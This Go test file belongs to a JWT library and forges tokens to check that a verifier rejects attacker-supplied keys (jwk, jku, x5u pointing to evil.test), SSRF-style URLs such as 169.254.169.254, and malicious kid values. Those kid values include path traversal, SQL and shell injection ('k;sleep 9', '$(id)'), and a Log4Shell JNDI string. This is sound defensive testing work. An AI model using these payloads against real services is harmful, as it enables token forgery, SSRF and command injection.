package oracle

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/longcase/longcase/jwks"
	"github.com/longcase/longcase/token"
)

// injections offer the attacker's own key in the header, in every way there is
// (RFC 7515 sections 4.1.2 to 4.1.8, RFC 8725 section 3.10). What begins with
// "own" is signed by that key.
func injections(f *forger) {
	for _, alg := range algorithms() {
		mine := strangersPairs()[alg]
		offers := offersOf(f.T, mine)
		for mask := range 1 << len(offers) {
			var chosen strings.Builder
			for i, o := range offers {
				if mask>>i&1 == 1 {
					chosen.WriteString("," + o)
				}
			}
			for _, kid := range []string{`"kid":"k"`, `"kid":"mine"`, `"x":1`} {
				header := fmt.Sprintf(`{"alg":%q,%s,"typ":"at+jwt"%s}`, string(alg), kid, chosen.String())
				f.add("own key offered", mine, mine.forge(f.T, header, goodClaims()))
			}
		}
	}
	for _, url := range places() {
		mine := strangersPairs()[f.next().alg]
		for _, parameter := range []string{"jku", "x5u"} {
			header := fmt.Sprintf(`,%q:%q`, parameter, url)
			f.add("own key at "+url, mine, mine.forge(f.T, mine.header(header), goodClaims()))
		}
	}
}

// offersOf are header parameters that hold or point to a key.
func offersOf(t *testing.T, p pair) []string {
	t.Helper()
	if p.alg == token.HS256 {
		return []string{`"jwk":{"kty":"oct","k":"` + b64(string(otherSecret())) + `"}`, `"jku":"https://evil.test/jwks"`, `"x5u":"https://evil.test/x"`}
	}
	set := must(jwks.Marshal([]token.Key{p.signer.Key()}))
	jwk := strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(string(set)), `{"keys":[`), `]}`)
	der := selfSigned(t, p)
	sum := sha256.Sum256(der)
	return []string{
		`"jwk":` + jwk, `"jku":"https://evil.test/jwks"`, `"x5u":"https://evil.test/x"`,
		`"x5c":["` + base64.StdEncoding.EncodeToString(der) + `"]`, `"x5t#S256":"` + b64(string(sum[:])) + `"`,
	}
}

// places are where a header could point to.
func places() []string {
	hosts := []string{
		"evil.test", "tokens.example.com@evil.test", "tokens.example.com.evil.test", "evil.test#tokens.example.com", "evil.test?tokens.example.com",
		"evil.test/tokens.example.com", "127.0.0.1:1", "[::1]:1", "169.254.169.254", "localhost", "2130706433", "0x7f.1", "tokens.example.com:1",
		"tokens.example.com%2f@evil.test", "tokens.example.com\\\\@evil.test", "tokens.example.com/redirect?to=https://evil.test",
	}
	var list []string
	for _, scheme := range []string{"https://", "http://", "//", "file:///", "ftp://", "data:application/json,", "gopher://", "HTTPS://"} {
		for _, host := range hosts {
			list = append(list, scheme+host+"/.well-known/jwks.json")
		}
	}
	return list
}

// kids point somewhere else than to a key: to files whose content everybody
// knows, into queries, shells and logs.
func kids(f *forger) {
	for _, kid := range append(append(traversals(), queries()...), lookalikes()...) {
		p := f.next()
		header := fmt.Sprintf(`{"alg":%q,"kid":"%s","typ":"at+jwt"}`, string(p.alg), kid)
		mine := strangersPairs()[p.alg]
		f.add("own key, kid "+clip(kid), p, mine.forge(f.T, header, goodClaims()))
		f.add("right key, kid "+clip(kid), p, p.forge(f.T, header, goodClaims()))
		for _, known := range []string{"", "2\n", "2", "0\n", "secret", "1"} { // what /dev/null, procfs and a UNION hold
			header := fmt.Sprintf(`{"alg":"HS256","kid":"%s","typ":"at+jwt"}`, kid)
			f.add("known content, kid "+clip(kid), p, macced(sha256.New, []byte(known), header, goodClaims()))
		}
	}
	for _, value := range []string{"0", "1", "-1", "null", "true", "[]", `["k"]`, "{}", `{"k":"k"}`, "1e999"} {
		f.headed("kid "+value, `{"alg":"@alg","kid":`+value+`,"typ":"at+jwt"}`)
	}
}

func clip(s string) string { return s[:min(len(s), 40)] }

func traversals() []string {
	var list []string
	for _, file := range []string{"dev/null", "proc/sys/kernel/randomize_va_space"} {
		for _, up := range []string{"../", "..%2f", "%2e%2e/", `..\\`, "....//", "..%c0%af", "..;/", "..%252f"} {
			for _, depth := range []int{1, 3, 8} {
				list = append(list, strings.Repeat(up, depth)+file)
			}
		}
		list = append(list, "/"+file, "file:///"+file, "k/../../"+file, "/"+file+`\u0000k`)
	}
	return list
}

func queries() []string {
	var list []string
	for _, quote := range []string{"'", `\"`, "`", "')", "%27", "’"} {
		for _, rest := range []string{" OR 1=1-- ", " UNION SELECT 'secret'-- ", ";DROP TABLE keys-- ", " OR 'a'='a"} {
			list = append(list, "k"+quote+rest)
		}
	}
	return append(list, "k;sleep 9", "k|id", "$(id)", "${jndi:ldap://evil.test/k}", "{{7*7}}", "*", "%", "_", "k*", "*)(kid=*", "k&x=1", "k#", "k?x", "k\\r\\nX: y", "__proto__", "constructor")
}

// lookalikes are near a kid that is known, or long.
func lookalikes() []string {
	list := []string{"K", "k ", " k", "k\\u0000", "\\u0000k", "k\\n", "\u212a", "\uff4b", "k\u200b", "\u200bk", "k\u0301", "к", "kk", "k.", "k/", "./k", "k%00", "\\ud83d\\ude00"}
	for _, size := range []int{100, 1000, 8000, 16 << 10, 64 << 10} {
		list = append(list, strings.Repeat("k", size), strings.Repeat("../", size/3), strings.Repeat("\\u0000", size/6))
	}
	return list
}

// foreign are tokens of one accepted issuer in the name of the other, whose key
// has the same kid (RFC 8725 section 3.8).
func foreign(f *forger) {
	for _, alg := range algorithms() {
		ours, theirs := pairs()[alg], strangersPairs()[alg]
		named := strings.Replace(goodClaims(), us, them, 1)
		for _, kid := range []string{`"kid":"k"`, `"kid":"k2"`, `"x":1`} {
			header := fmt.Sprintf(`{"alg":%q,%s,"typ":"at+jwt"}`, string(alg), kid)
			f.add("their key, our name", theirs, theirs.forge(f.T, header, goodClaims()))
			f.add("our key, their name", ours, ours.forge(f.T, header, named))
			f.add("our key, nobody's name", ours, ours.forge(f.T, header, strings.Replace(goodClaims(), us, "https://nobody.example.com", 1)))
			f.add("both names", theirs, theirs.forge(f.T, header, strings.Replace(named, "{", fmt.Sprintf(`{"iss":%q,`, us), 1)))
			f.add("a list of names", theirs, theirs.forge(f.T, header, strings.Replace(named, `"`+them+`"`, fmt.Sprintf(`[%q,%q]`, us, them), 1)))
		}
	}
}
